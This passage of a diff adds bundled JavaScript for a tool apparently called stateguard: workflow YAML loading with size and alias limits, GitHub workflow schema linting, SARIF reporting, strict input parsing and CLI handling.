+                case "concurrency":
+                    handleTemplateTokenErrors(root, context, {}, () => convertConcurrency(context, item.value));
+                    result.concurrency = item.value;
+                    break;
+                case "env":
+                    result.env = item.value;
+                    break;
+            }
+        }
+        // Load referenced workflows
+        for (const job of result.jobs || []) {
+            if (isReusableWorkflowJob(job)) {
+                if (opts.maxReusableWorkflowDepth === 0) {
+                    context.error(job.ref, new Error("Reusable workflows are not allowed"));
+                    continue;
+                }
+                if (opts.fetchReusableWorkflowDepth === 0 || fileProvider === undefined) {
+                    continue;
+                }
+                try {
+                    const file = await fileProvider.getFileContent(parseFileReference(job.ref.value));
+                    const workflow = parseWorkflow(file, context);
+                    if (!workflow.value) {
+                        continue;
+                    }
+                    convertReferencedWorkflow(context, workflow.value, job);
+                }
+                catch {
+                    context.error(job.ref, new Error("Unable to find reusable workflow"));
+                }
+            }
+        }
+    }
+    catch (err) {
+        if (err instanceof TemplateTokenError) {
+            context.error(err.token, err);
+        }
+        else {
+            // Report error for the root node
+            context.error(root, err);
+        }
+    }
+    finally {
+        if (context.errors.getErrors().length > 0) {
+            result.errors = context.errors.getErrors().map(x => ({
+                Message: x.message
+            }));
+        }
+    }
+    return result;
+}
+function getOptionsWithDefaults(options) {
+    return {
+        maxReusableWorkflowDepth: options.maxReusableWorkflowDepth !== undefined
+            ? options.maxReusableWorkflowDepth
+            : defaultOptions.maxReusableWorkflowDepth,
+        fetchReusableWorkflowDepth: options.fetchReusableWorkflowDepth !== undefined
+            ? options.fetchReusableWorkflowDepth
+            : defaultOptions.fetchReusableWorkflowDepth,
+        errorPolicy: options.errorPolicy !== undefined ? options.errorPolicy : defaultOptions.errorPolicy,
+        featureFlags: options.featureFlags ?? defaultOptions.featureFlags
+    };
+}
+//# sourceMappingURL=convert.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/index.js
+
+
+
+
+//# sourceMappingURL=index.js.map
+;// CONCATENATED MODULE: ./src/lint/github-parser.ts
+/**
+ * GitHub's own workflow parser (@actions/workflow-parser), the one the Actions VS Code extension
+ * uses: schema errors, unknown keys, bad `${{ }}` expressions and semantic errors (job `needs`
+ * cycles, cron syntax, concurrency) with their ranges. Only the text is handed over; the file was
+ * already read safely (size cap, strict UTF-8, bounded aliases) by ./workflow.ts, because this
+ * parser expands aliases without a limit.
+ */
+
+
+
+
+
+
+/**
+ * GitHub's YAML reader over a document stateguard already parsed (with the same options), so each
+ * workflow is parsed once, not twice: half the cost of a lint. It replaces exactly the three fields
+ * the reader's constructor fills from its own parse. A parser upgrade that changes them breaks the
+ * lint tests loudly (every schema case), never silently.
+ */
+class ParsedDocumentReader extends YamlObjectReader {
+    constructor(fileId, doc, lines) {
+        super(fileId, '');
+        const self = this;
+        self.doc = doc;
+        self.lineCounter = lines;
+        self._generator = self.getNodes(doc, new Set());
+    }
+}
+/**
+ * Schema, expression and conversion errors of one workflow, 1-based positions. `doc` must be
+ * free of YAML errors and of alias bombs (checked by loadWorkflow); this is parseWorkflow() of
+ * @actions/workflow-parser over that document.
+ */
+async function githubParserErrors(displayName, doc, lines) {
+    const context = new TemplateContext(new TemplateValidationErrors(), getWorkflowSchema(), new NoOperationTraceWriter());
+    const fileId = context.getFileId(displayName);
+    const value = readTemplate(context, WORKFLOW_ROOT, new ParsedDocumentReader(fileId, doc, lines), fileId);
+    const parsed = { context, value };
+    // The converter adds the semantic checks (needs, cron, concurrency, matrix). By default it
+    // returns the parse errors unchanged when there are any, so it never double-reports.
+    if (parsed.value && parsed.context.errors.count === 0) {
+        await convertWorkflowTemplate(parsed.context, parsed.value);
+    }
+    const seen = new Set();
+    const out = [];
+    for (const e of parsed.context.errors.getErrors()) {
+        const line = e.range?.start.line ?? 1;
+        const column = e.range?.start.column ?? 1;
+        // rawMessage has no "file (Line: x, Col: y): " prefix: the position is reported separately.
+        const message = e.rawMessage.trim();
+        const key = `${line}:${column}:${message}`;
+        if (seen.has(key))
+            continue;
+        seen.add(key);
+        out.push({ line, column, message });
+    }
+    return out;
+}
+
+;// CONCATENATED MODULE: ./src/lint/workflow.ts
+/**
+ * One workflow file read for linting: its text, the YAML document (size cap, strict UTF-8, one
+ * document, bounded aliases, as for module.yaml), its plain value,
+ * and exact 1-based positions for any path or any offset — including a line inside a block scalar.
+ */
+
+
+class WorkflowFile {
+    file;
+    text;
+    doc;
+    lines;
+    value;
+    lineStarts;
+    constructor(file, text, doc, lines, value) {
+        this.file = file;
+        this.text = text;
+        this.doc = doc;
+        this.lines = lines;
+        this.value = value;
+        this.lineStarts = [0];
+        for (let i = 0; i < text.length; i++)
+            if (text.charCodeAt(i) === 10)
+                this.lineStarts.push(i + 1);
+    }
+    /** 1-based line and column (in characters) of a text offset. */
+    position(offset) {
+        let lo = 0;
+        let hi = this.lineStarts.length - 1;
+        while (lo < hi) {
+            const mid = (lo + hi + 1) >> 1;
+            if (this.lineStarts[mid] <= offset)
+                lo = mid;
+            else
+                hi = mid - 1;
+        }
+        return { line: lo + 1, column: offset - this.lineStarts[lo] + 1 };
+    }
+    /** The YAML node at `path` (a mapping value or sequence item), and the key node when in a mapping. */
+    node(path) {
+        let node = this.doc.contents;
+        let key;
+        for (const seg of path) {
+            if ((0,dist/* isMap */.jh)(node)) {
+                const pair = node.items.find((p) => (0,dist/* isScalar */.jn)(p.key) && String(p.key.value) === String(seg));
+                if (!pair)
+                    return { node: undefined };
+                key = pair.key;
+                node = pair.value;
+            }
+            else if ((0,dist/* isSeq */.oP)(node) && typeof seg === 'number') {
+                key = undefined;
+                node = node.items[seg];
+                if (node === undefined)
+                    return { node: undefined };
+            }
+            else {
+                return { node: undefined };
+            }
+        }
+        return { node: node, key };
+    }
+    /** Position of the value at `path` ('value') or of its key ('key'); the deepest existing ancestor otherwise. */
+    at(path, which = 'value') {
+        for (let n = path.length; n >= 0; n--) {
+            const { node, key } = this.node(path.slice(0, n));
+            const chosen = which === 'key' && n === path.length ? (key ?? node) : (node ?? key);
+            const start = chosen?.range?.[0];
+            if (start !== undefined)
+                return this.position(start);
+        }
+        return { line: 1, column: 1 };
+    }
+    /** The source text of the scalar at `path` and where it starts (for finding a line inside it). */
+    rawScalar(path) {
+        const { node } = this.node(path);
+        if (!node || !(0,dist/* isScalar */.jn)(node) || !node.range)
+            return undefined;
+        return { raw: this.text.slice(node.range[0], node.range[1]), start: node.range[0] };
+    }
+    /**
+     * Position of the `occurrence`-th match of `pattern` inside the scalar at `path`, counted in its
+     * source text. Block scalars keep their lines, so this is the exact line inside a `run: |`.
+     * When the source spells the value differently (escapes), the scalar's start is returned.
+     */
+    positionInScalar(path, pattern, occurrence) {
+        const raw = this.rawScalar(path);
+        if (!raw)
+            return this.at(path);
+        const re = new RegExp(pattern.source, pattern.flags.includes('g') ? pattern.flags : pattern.flags + 'g');
+        let k = 0;
+        for (const m of raw.raw.matchAll(re)) {
+            if (k === occurrence)
+                return this.position(raw.start + m.index);
+            k++;
+        }
+        return this.position(raw.start);
+    }
+}
+/**
+ * Parse workflow bytes safely, once: the same document feeds GitHub's parser and stateguard's rules.
+ * The options match GitHub's own reader (source tokens kept for block scalars; duplicate keys are
+ * left to its template reader, which reports them as schema errors). Never throws for hostile content.
+ */
+function loadWorkflow(bytes, displayName) {
+    const fail = (message, offset = 0, lines) => {
+        const p = lines ? lines.linePos(offset) : { line: 1, col: 1 };
+        return { ok: false, problems: [{ file: displayName, line: p.line, column: p.col, message }] };
+    };
+    if (bytes.length > MAX_YAML_BYTES)
+        return fail(`file is ${bytes.length} bytes; the limit is ${MAX_YAML_BYTES} (1 MiB)`);
+    let text;
+    try {
+        text = new TextDecoder('utf-8', { fatal: true }).decode(bytes);
+    }
+    catch {
+        // The shared reader reports where the first invalid sequence is.
+        const read = parseYamlText(bytes, displayName);
+        return read.ok ? fail('file is not valid UTF-8') : { ok: false, problems: read.problems };
+    }
+    if (text.charCodeAt(0) === 0xfeff)
+        text = text.slice(1);
+    const lines = new dist/* LineCounter */.HN();
+    const doc = (0,dist/* parseDocument */.Tp)(text, { lineCounter: lines, keepSourceTokens: true, uniqueKeys: false, prettyErrors: false });
+    if (doc.errors.length > 0) {
+        return {
+            ok: false,
+            problems: doc.errors.map((e) => {
+                const p = lines.linePos(e.pos[0]);
+                const message = e.code === 'MULTIPLE_DOCS' ? 'file contains more than one YAML document; expected exactly one workflow' : `YAML syntax error: ${e.message.split('\n')[0].replace(/ at line \d+, column \d+:?$/, '').trim()}`;
+                return { file: displayName, line: p.line, column: p.col, message };
+            }),
+        };
+    }
+    let value;
+    try {
+        value = doc.toJS({ maxAliasCount: MAX_ALIAS_COUNT });
+    }
+    catch (err) {
+        const message = err instanceof Error ? err.message : String(err);
+        if (/alias/i.test(message))
+            return fail(`YAML aliases expand too much (limit ${MAX_ALIAS_COUNT}): refusing a possible alias bomb`);
+        return fail(`YAML error: ${message.split('\n')[0]}`);
+    }
+    if (value === null || value === undefined)
+        return fail('file is empty: expected a YAML mapping');
+    if (typeof value !== 'object' || Array.isArray(value)) {
+        return fail(`expected a YAML mapping at the top level, found ${Array.isArray(value) ? 'a list' : typeof value}`, doc.contents?.range?.[0] ?? 0, lines);
+    }
+    return { ok: true, workflow: new WorkflowFile(displayName, text, doc, lines, value) };
+}
+
+;// CONCATENATED MODULE: ./src/lint/lint.ts
+/**
+ * lint-workflows: find the workflow files, read each safely, run GitHub's parser and stateguard's
+ * rules, and return every problem sorted. A file that cannot be parsed is a problem (SG001), never
+ * a crash; a path that cannot be read at all is an error the command turns into exit 3.
+ */
+
+
+
+
+
+
+
+
+const DEFAULT_PATHS = ['.github/workflows', '.forgejo/workflows', '.gitea/workflows', 'workflows'];
+const WORKFLOW_FILE = /\.ya?ml$/i;
+/** A path the operator named (or a file in it) that could not be read: "could not run". */
+class UnreadablePathError extends Error {
+    target;
+    why;
+    constructor(target, why) {
+        super(`cannot read ${JSON.stringify(target)}: ${why}`);
+        this.target = target;
+        this.why = why;
+        this.name = 'UnreadablePathError';
+    }
+}
+function display(cwd, absolute) {
+    const rel = external_node_path_default().relative(cwd, absolute) || external_node_path_default().basename(absolute);
+    return rel.split((external_node_path_default()).sep).join('/');
+}
+/**
+ * The workflow files to lint. Directories are read one level deep (runners read only the top level
+ * of a workflows directory) for `*.yml`/`*.yaml`. Missing default directories are skipped; a
+ * missing or unreadable explicit path, or an explicit file that is not YAML, throws.
+ */
+function findWorkflowFiles(cwd, paths) {
+    const explicit = paths.length > 0;
+    const found = new Map();
+    for (const p of explicit ? paths : DEFAULT_PATHS) {
+        const absolute = external_node_path_default().resolve(cwd, p);
+        let st;
+        try {
+            st = (0,external_node_fs_namespaceObject.statSync)(absolute);
+        }
+        catch (err) {
+            const code = err.code;
+            if (!explicit && code === 'ENOENT')
+                continue;
+            throw new UnreadablePathError(p, code === 'ENOENT' ? 'no such file or directory' : (code ?? errorMessage(err)));
+        }
+        if (st.isDirectory()) {
+            let entries;
+            try {
+                entries = (0,external_node_fs_namespaceObject.readdirSync)(absolute);
+            }
+            catch (err) {
+                throw new UnreadablePathError(p, err.code ?? errorMessage(err));
+            }
+            for (const name of entries.sort()) {
+                if (!WORKFLOW_FILE.test(name))
+                    continue;
+                const file = external_node_path_default().join(absolute, name);
+                let isFile = false;
+                try {
+                    isFile = (0,external_node_fs_namespaceObject.statSync)(file).isFile();
+                }
+                catch (err) {
+                    throw new UnreadablePathError(display(cwd, file), err.code ?? errorMessage(err));
+                }
+                if (isFile)
+                    found.set(file, { absolute: file, display: display(cwd, file) });
+            }
+        }
+        else if (st.isFile()) {
+            if (!WORKFLOW_FILE.test(absolute))
+                throw new UnreadablePathError(p, 'not a workflow file (expected *.yml or *.yaml)');
+            found.set(absolute, { absolute, display: display(cwd, absolute) });
+        }
+        else {
+            throw new UnreadablePathError(p, 'not a regular file or directory');
+        }
+    }
+    return [...found.values()].sort((a, b) => (a.display < b.display ? -1 : a.display > b.display ? 1 : 0));
+}
+/** Every problem of one workflow text (bytes as read from disk). Never throws. */
+async function lintWorkflowBytes(bytes, file) {
+    const yamlProblem = (line, column, message) => ({ file, line, column, rule: 'SG001', severity: ruleById('SG001').severity, message });
+    try {
+        if (bytes.length > MAX_YAML_BYTES)
+            return [yamlProblem(1, 1, `file is ${bytes.length} bytes; the limit is ${MAX_YAML_BYTES} (1 MiB)`)];
+        const loaded = loadWorkflow(bytes, file);
+        if (!loaded.ok)
+            return loaded.problems.map((p) => yamlProblem(p.line, p.column, p.message)).sort(compareProblems);
+        const wf = loaded.workflow;
+        const problems = (await githubParserErrors(file, wf.doc, wf.lines)).map((e) => ({
+            file,
+            line: e.line,
+            column: e.column,
+            rule: 'SG000',
+            severity: ruleById('SG000').severity,
+            message: e.message,
+        }));
+        problems.push(...checkWorkflow(wf));
+        return problems.sort(compareProblems);
+    }
+    catch (err) {
+        // e.g. nesting deep enough to exhaust the stack: still a "no" with a reason, never a crash.
+        return [yamlProblem(1, 1, `could not parse the workflow: ${errorMessage(err).split('\n')[0]}`)];
+    }
+}
+async function lintWorkflows(cwd, paths) {
+    const targets = findWorkflowFiles(cwd, paths);
+    const problems = [];
+    for (const t of targets) {
+        let bytes;
+        let size;
+        try {
+            size = (0,external_node_fs_namespaceObject.statSync)(t.absolute).size;
+            // A huge file is refused without loading it.
+            if (size <= MAX_YAML_BYTES)
+                bytes = (0,external_node_fs_namespaceObject.readFileSync)(t.absolute);
+        }
+        catch (err) {
+            throw new UnreadablePathError(t.display, err.code ?? errorMessage(err));
+        }
+        if (!bytes) {
+            problems.push({ file: t.display, line: 1, column: 1, rule: 'SG001', severity: ruleById('SG001').severity, message: `file is ${size} bytes; the limit is ${MAX_YAML_BYTES} (1 MiB)` });
+            continue;
+        }
+        problems.push(...(await lintWorkflowBytes(bytes, t.display)));
+    }
+    problems.sort(compareProblems);
+    return {
+        files: targets.map((t) => t.display),
+        problems,
+        errors: problems.filter((p) => p.severity === 'error').length,
+        warnings: problems.filter((p) => p.severity === 'warning').length,
+    };
+}
+/** `file:line:col: RULE message` */
+function formatProblemLine(p) {
+    return `${p.file}:${p.line}:${p.column}: ${p.rule} ${p.message}`;
+}
+
+;// CONCATENATED MODULE: ./src/report/sarif.ts
+const SARIF_SCHEMA_URI = 'https://json.schemastore.org/sarif-2.1.0.json';
+/** A relative path as a SARIF uri-reference: each segment percent-encoded, separators kept. */
+function sarifUri(file) {
+    return file
+        .split('/')
+        .map((segment) => encodeURIComponent(segment))
+        .join('/');
+}
+function toSarif(tool, rules, results) {
+    const index = new Map(rules.map((r, i) => [r.id, i]));
+    return {
+        $schema: SARIF_SCHEMA_URI,
+        version: '2.1.0',
+        runs: [
+            {
+                tool: {
+                    driver: {
+                        name: tool.name,
+                        version: tool.version,
+                        semanticVersion: tool.version,
+                        ...(tool.informationUri ? { informationUri: tool.informationUri } : {}),
+                        rules: rules.map((r) => ({
+                            id: r.id,
+                            name: r.name,
+                            shortDescription: { text: r.summary },
+                            fullDescription: { text: `${r.summary} ${r.why}` },
+                            help: {
+                                text: `${r.summary}\n\nWhy: ${r.why}\n\nHow to fix: ${r.fix}`,
+                                markdown: `**${r.id} ${r.name}**: ${r.summary}\n\n**Why:** ${r.why}\n\n**How to fix:** ${r.fix}`,
+                            },
+                            defaultConfiguration: { level: r.severity },
+                            properties: { tags: [...(r.tags ?? [])] },
+                        })),
+                    },
+                },
+                // Columns are counted in JavaScript string indexes.
+                columnKind: 'utf16CodeUnits',
+                results: results.map((p) => {
+                    const ruleIndex = index.get(p.ruleId);
+                    return {
+                        ruleId: p.ruleId,
+                        ...(ruleIndex !== undefined ? { ruleIndex } : {}),
+                        level: p.level,
+                        message: { text: p.message },
+                        locations: [
+                            {
+                                physicalLocation: {
+                                    artifactLocation: { uri: sarifUri(p.file) },
+                                    region: { startLine: Math.max(1, p.line), startColumn: Math.max(1, p.column) },
+                                },
+                            },
+                        ],
+                    };
+                }),
+            },
+        ],
+    };
+}
+
+;// CONCATENATED MODULE: ./src/commands/inputs.ts
+/**
+ * Turns raw input strings (from argv or from INPUT_* variables) into a command's typed options,
+ * strictly. Every rejection is a UserError naming the input, the bad value, what was expected and
+ * how to fix it. Booleans are `true`/`false` only: `yes`, `1`, `True ` are refused, never coerced.
+ */
+
+
+const cliNames = { describe: (n) => `--${n}` };
+const actionNames = { describe: (n) => `input '${n}'` };
+function parseBoolean(raw, label) {
+    if (raw === 'true')
+        return true;
+    if (raw === 'false')
+        return false;
+    throw new UserError(`${label} must be exactly 'true' or 'false', got ${JSON.stringify(raw)}. ` +
+        `Booleans are not coerced (yes/1/TRUE are refused): pass true or false.`, { input: label });
+}
+const SIZE_UNITS = { '': 1, K: 1024, M: 1024 ** 2, G: 1024 ** 3, T: 1024 ** 4 };
+/** `512`, `64K`, `100M`, `2G` (binary units; a trailing `B`/`iB` is accepted). */
+function parseSize(raw, label) {
+    const m = /^(\d+)\s*([KMGT]?)(?:i?B)?$/i.exec(raw.trim());
+    const unit = m ? SIZE_UNITS[(m[2] ?? '').toUpperCase()] : undefined;
+    if (!m || unit === undefined) {
+        throw new UserError(`${label} must be a size like 512, 64K, 100M or 2G, got ${JSON.stringify(raw)}.`, { input: label });
+    }
+    const value = Number(m[1]) * unit;
+    if (!Number.isSafeInteger(value) || value <= 0) {
+        throw new UserError(`${label} must be a positive size, got ${JSON.stringify(raw)}.`, { input: label });
+    }
+    return value;
+}
+function parseInteger(raw, label) {
+    if (!/^\d+$/.test(raw.trim())) {
+        throw new UserError(`${label} must be a whole number, got ${JSON.stringify(raw)}.`, { input: label });
+    }
+    const value = Number(raw.trim());
+    if (!Number.isSafeInteger(value)) {
+        throw new UserError(`${label} is too large: ${JSON.stringify(raw)}.`, { input: label });
+    }
+    return value;
+}
+function show(def, raw) {
+    return def.secret ? '(value hidden)' : JSON.stringify(raw);
+}
+/** Parse every declared input. Unknown raw keys are rejected by the callers (CLI: unknown flag). */
+function parseInputs(defs, raw, names) {
+    const out = {};
+    for (const def of defs) {
+        const label = names.describe(def.name);
+        const given = raw[def.name];
+        const values = (Array.isArray(given) ? given : given === undefined ? [] : [given]).filter((v) => def.kind === 'list' || v !== '');
+        if (def.rest) {
+            // Everything after `--` is a command's argument vector: kept verbatim (no trimming, no
+            // line splitting, empty arguments kept), as a shell would have passed it.
+            const argv = Array.isArray(given) ? given : given === undefined ? [] : [given];
+            if (def.required && argv.length === 0) {
+                throw new UserError(`${label} is required: ${def.description}`, { input: def.name });
+            }
+            out[camel(def.name)] = [...argv];
+            continue;
+        }
+        if (def.kind === 'list') {
+            // Action inputs carry lists one per line; CLI repeats the flag. Blank lines are ignored.
+            const items = values.flatMap((v) => v.split(/\r?\n/)).map((v) => v.trim()).filter((v) => v !== '');
+            const fallback = items.length === 0 && def.default ? def.default.split(/\r?\n/).filter(Boolean) : [];
+            const list = items.length ? items : fallback;
+            if (def.required && list.length === 0) {
+                throw new UserError(`${label} is required: ${def.description}`, { input: def.name });
+            }
+            out[camel(def.name)] = list;
+            continue;
+        }
+        if (values.length > 1) {
+            throw new UserError(`${label} was given ${values.length} times; give it once.`, { input: def.name });
+        }
+        const value = values[0] ?? def.default;
+        if (value === undefined || value === '') {
+            if (def.required) {
+                throw new UserError(`${label} is required: ${def.description}`, { input: def.name });
+            }
+            out[camel(def.name)] = def.kind === 'boolean' ? false : undefined;
+            continue;
+        }
+        switch (def.kind) {
+            case 'string':
+                out[camel(def.name)] = value;
+                break;
+            case 'boolean':
+                out[camel(def.name)] = parseBoolean(value, label);
+                break;
+            case 'size':
+                out[camel(def.name)] = parseSize(value, label);
+                break;
+            case 'integer':
+                out[camel(def.name)] = parseInteger(value, label);
+                break;
+            case 'choice':
+                if (!def.choices?.includes(value)) {
+                    throw new UserError(`${label} must be one of ${def.choices?.join(', ')}, got ${show(def, value)}.`, { input: def.name });
+                }
+                out[camel(def.name)] = value;
+                break;
+        }
+    }
+    return out;
+}
+
+;// CONCATENATED MODULE: ./src/cli.ts
+/**
+ * `stateguard <command> [flags]`: argv -> typed options (through the command's one input
+ * definition) -> command -> stdout/stderr and exit code (DESIGN §10).
+ */
+
+
+
+
+
+
+const cli_VERSION = '0.1.0';
+/** Split argv into raw inputs for one command. Unknown flags are usage errors (exit 3). */
+function parseArgv(spec, argv) {
+    const defs = spec.inputs.filter((d) => !d.actionOnly);
+    const raw = {};
+    const push = (name, value) => {
+        const prev = raw[name];
+        raw[name] = prev === undefined ? [value] : [...(Array.isArray(prev) ? prev : [prev]), value];
+    };
+    const positional = defs.find((d) => d.positional);
+    const rest = defs.find((d) => d.rest);
+    for (let i = 0; i < argv.length; i++) {
+        const arg = argv[i];
+        if (arg === '--') {
+            if (!rest)
+                throw new UserError(`stateguard ${spec.name} takes no command after '--'.`, { input: '--' });
+            for (const r of argv.slice(i + 1))
+                push(rest.name, r);
+            break;
+        }
+        if (arg.startsWith('--')) {
+            const eq = arg.indexOf('=');
+            const name = arg.slice(2, eq === -1 ? undefined : eq);
+            const def = defs.find((d) => d.name === name && !d.positional && !d.rest);
+            if (!def) {
+                const known = defs.filter((d) => !d.positional && !d.rest).map((d) => `--${d.name}`).join(', ');
+                throw new UserError(`unknown flag --${name} for 'stateguard ${spec.name}'. Known flags: ${known}.`, { input: name });
+            }
+            if (eq !== -1)
+                push(name, arg.slice(eq + 1));
+            else if (def.kind === 'boolean')
+                push(name, 'true');
+            else {
+                const value = argv[i + 1];
+                if (value === undefined || (value.startsWith('--') && value.length > 2)) {
+                    throw new UserError(`--${name} needs a value: ${def.description}`, { input: name });
+                }
+                push(name, value);
+                i++;
+            }
+            continue;
+        }
+        if (arg.startsWith('-') && arg !== '-') {
+            throw new UserError(`unknown option ${arg} for 'stateguard ${spec.name}' (flags are --long).`, { input: arg });
+        }
+        if (!positional) {
+            throw new UserError(`unexpected argument ${JSON.stringify(arg)} for 'stateguard ${spec.name}'.`, { input: arg });
+        }
+        push(positional.name, arg);
+    }
+    // Flags given once stay single strings so "given twice" is detected for non-list inputs.
+    for (const [k, v] of Object.entries(raw)) {
+        const def = defs.find((d) => d.name === k);
+        if (Array.isArray(v) && v.length === 1 && def?.kind !== 'list')
+            raw[k] = v[0];
+    }
+    return raw;
+}
+function usage(spec) {
+    if (!spec) {
+        return [
+            `stateguard ${cli_VERSION}: change stateful Docker Compose services from CI without losing data.`,
+            '',
+            'usage: stateguard <command> [flags]',
+            '',
+            'commands:',
+            ...Object.values(COMMANDS).map((c) => `  ${c.name.padEnd(16)} ${c.description}`),
+            '',
+            "Run 'stateguard <command> --help' for its flags. Exit codes: 0 ok, 1 no, 2 drift (plan --detailed-exitcode), 3 could not run.",
+        ].join('\n');
+    }
+    const lines = [`usage: stateguard ${spec.name} [flags]`, '', spec.description, '', 'flags:'];
+    for (const d of spec.inputs.filter((x) => !x.actionOnly)) {
+        const flag = d.positional ? `[${d.name}...]` : d.rest ? `-- ${d.name}...` : `--${d.name}${d.kind === 'boolean' ? '' : ' VALUE'}`;
+        const extra = [d.kind === 'list' && !d.positional && !d.rest ? 'repeatable' : '', d.default ? `default ${d.default}` : '', d.required ? 'required' : '']
+            .filter(Boolean)
+            .join('; ');
+        lines.push(`  ${flag.padEnd(30)} ${d.description}${extra ? ` (${extra})` : ''}`);
+    }
+    return lines.join('\n');
+}
+function cliLogger(io, scrub) {
+    const where = (w) => w?.file ? `${w.file}${w.line ? `:${w.line}${w.column ? `:${w.column}` : ''}` : ''}: ` : '';
+    return {
+        info: (m) => io.stderr(scrub.scrub(m) + '\n'),
+        warn: (m, w) => io.stderr(scrub.scrub(`warning: ${where(w)}${m}`) + '\n'),
+        error: (m, w) => io.stderr(scrub.scrub(`error: ${where(w)}${m}`) + '\n'),
+        notice: (m, w) => io.stderr(scrub.scrub(`notice: ${where(w)}${m}`) + '\n'),
+        raw: (chunk) => io.stderr(scrub.scrub(chunk)),
+    };
+}
+async function runCli(argv, io) {
+    const scrub = new Scrubber();
+    const [name, ...args] = argv;
+    if (name === undefined || name === '--help' || name === '-h' || name === 'help') {
+        io.stdout(usage() + '\n');
+        return name === undefined ? errors_ExitCode.couldNotRun : errors_ExitCode.ok;
+    }
+    if (name === '--version' || name === 'version') {
+        io.stdout(`${cli_VERSION}\n`);
+        return errors_ExitCode.ok;
+    }
+    const spec = getCommand(name);
+    if (!spec) {
+        io.stderr(`stateguard: unknown command ${JSON.stringify(name)}.\n\n${usage()}\n`);
+        return errors_ExitCode.couldNotRun;
+    }
+    if (args.includes('--help') && !args.slice(0, args.indexOf('--help')).includes('--')) {
+        io.stdout(usage(spec) + '\n');
+        return errors_ExitCode.ok;
+    }
+    const jsonMode = args.includes('--json') || args.includes('--json=true');
+    let runtime;
+    const ctx = {
+        cwd: io.cwd,
+        env: io.env,
+        log: cliLogger(io, scrub),
+        now: io.now ?? (() => new Date()),
+        runtime: () => (runtime ??= io.runtime?.() ?? new DockerCli({ env: io.env })),
+        inAction: false,
+        addSecret: (v) => scrub.add(v),
+    };
+    let result;
+    try {
+        const options = parseInputs(spec.inputs.filter((d) => !d.actionOnly), parseArgv(spec, args), cliNames);
+        result = await runCommand(spec, options, ctx);
+    }
+    catch (err) {
+        result = errorResult(spec, err);
+    }
+    if (jsonMode) {
+        io.stdout(scrub.scrub(JSON.stringify(result.json, null, 2)) + '\n');
+        if (result.text)
+            io.stderr(scrub.scrub(result.text) + '\n');
+    }
+    else if (result.text) {
+        (result.exitCode === errors_ExitCode.couldNotRun ? io.stderr : io.stdout)(scrub.scrub(result.text) + '\n');
+    }
+    return result.exitCode;
+}
+
+;// CONCATENATED MODULE: ./src/commands/lint-workflows.ts
+/** `stateguard lint-workflows [PATHS...]`: lint the workflows that drive stateful changes (DESIGN §9). */
+
+
+
+
+
+
+
+
+
+/** GitHub shows at most 10 annotations per step and type; more per file only hide each other. */
+const MAX_ANNOTATIONS_PER_FILE = 10;
+const MAX_SUMMARY_ROWS = 200;
+const lintWorkflowsCommand = defineCommand({
+    name: 'lint-workflows',
+    title: 'stateguard lint-workflows',
+    description: 'Lint the workflows that drive stateful changes: GitHub workflow schema plus stateguard rules (docs/rules.md).',
+    inputs: [
+        {
+            name: 'paths',
+            kind: 'list',
+            positional: true,
+            description: `Workflow files or directories (default: ${DEFAULT_PATHS.join(', ')}; missing default directories are skipped).`,
+        },
+        { name: 'format', kind: 'choice', choices: ['text', 'json', 'sarif'], default: 'text', description: 'Output format: text (file:line:col: RULE message), json or sarif.' },
+        { name: 'sarif-file', kind: 'string', description: 'Also write the SARIF 2.1.0 report to this file (e.g. for github/codeql-action/upload-sarif).' },
+    ],
+    outputs: [
+        { name: 'errors', description: 'Number of errors.' },
+        { name: 'warnings', description: 'Number of warnings.' },
+        { name: 'sarif-file', description: "Path of the SARIF report written for input 'sarif-file' (empty when none)." },
+        FAILURE_REASON_OUTPUT,
+    ],
+    async run(opts, ctx) {
+        let report;
+        try {
+            report = await lintWorkflows(ctx.cwd, opts.paths);
+        }
+        catch (err) {
+            if (err instanceof UnreadablePathError) {
+                throw new UserError(`${err.message}; name workflow files (*.yml, *.yaml) or directories that exist and are readable.`, {
+                    input: 'paths',
+                    exitCode: errors_ExitCode.couldNotRun,
+                });
+            }
+            throw err;
+        }
+        const { problems, errors, warnings, files } = report;
+        const sarif = toSarif({ name: 'stateguard', version: cli_VERSION }, RULES.map((r) => ({ ...r, tags: r.id === 'SG000' || r.id === 'SG001' ? ['correctness'] : ['security'] })), problems.map((p) => ({ ruleId: p.rule, level: p.severity, message: p.message, file: p.file, line: p.line, column: p.column })));
+        let sarifFile = '';
+        if (opts.sarifFile) {
+            const target = external_node_path_default().resolve(ctx.cwd, opts.sarifFile);
+            try {
+                (0,external_node_fs_namespaceObject.mkdirSync)(external_node_path_default().dirname(target), { recursive: true });
+                (0,external_node_fs_namespaceObject.writeFileSync)(target, JSON.stringify(sarif, null, 2) + '\n');
+            }
+            catch (err) {
+                throw new UserError(`cannot write the SARIF report to sarif-file ${JSON.stringify(opts.sarifFile)}: ${errorMessage(err)}`, { input: 'sarif-file' });
+            }
+            sarifFile = opts.sarifFile;
+        }
+        const verdict = `${files.length} workflow file${files.length === 1 ? '' : 's'} checked: ${errors} error${errors === 1 ? '' : 's'}, ${warnings} warning${warnings === 1 ? '' : 's'}` +
+            (files.length === 0 ? ` (no *.yml/*.yaml found in ${opts.paths.length ? opts.paths.join(', ') : DEFAULT_PATHS.join(', ')})` : '');
+        let text;
+        if (opts.format === 'json')
+            text = JSON.stringify({ problems }, null, 2);
+        else if (opts.format === 'sarif')
+            text = JSON.stringify(sarif, null, 2);
+        else
+            text = [...problems.map(formatProblemLine), verdict].join('\n');
+        const failed = errors > 0;
+        const { annotations, hidden } = annotate(problems);
+        return {
+            exitCode: failed ? errors_ExitCode.no : errors_ExitCode.ok,
+            json: { problems },
+            text,
+            outputs: { errors: String(errors), warnings: String(warnings), 'sarif-file': sarifFile, 'failure-reason': failed ? 'lint-errors' : '' },
+            summary: lint_workflows_summary(verdict, problems, hidden),
+            annotations,
+            failureReason: failed ? 'lint-errors' : undefined,
+        };
+    },
+});
+function annotate(problems) {
+    const perFile = new Map();
+    const hidden = new Map();
+    const annotations = [];
+    for (const p of problems) {
+        const n = perFile.get(p.file) ?? 0;
+        perFile.set(p.file, n + 1);
+        if (n >= MAX_ANNOTATIONS_PER_FILE) {
+            hidden.set(p.file, (hidden.get(p.file) ?? 0) + 1);
+            continue;
+        }
+        annotations.push({ level: p.severity, message: `${p.rule} ${p.message}`, file: p.file, line: p.line, column: p.column, title: `stateguard ${p.rule}` });
+    }
+    return { annotations, hidden };
+}
+function lint_workflows_summary(verdict, problems, hidden) {
+    const lines = [`### stateguard lint-workflows: ${verdict}`, ''];
+    if (problems.length > 0) {
+        lines.push('| file | line | rule | severity | message |', '|---|---|---|---|---|');
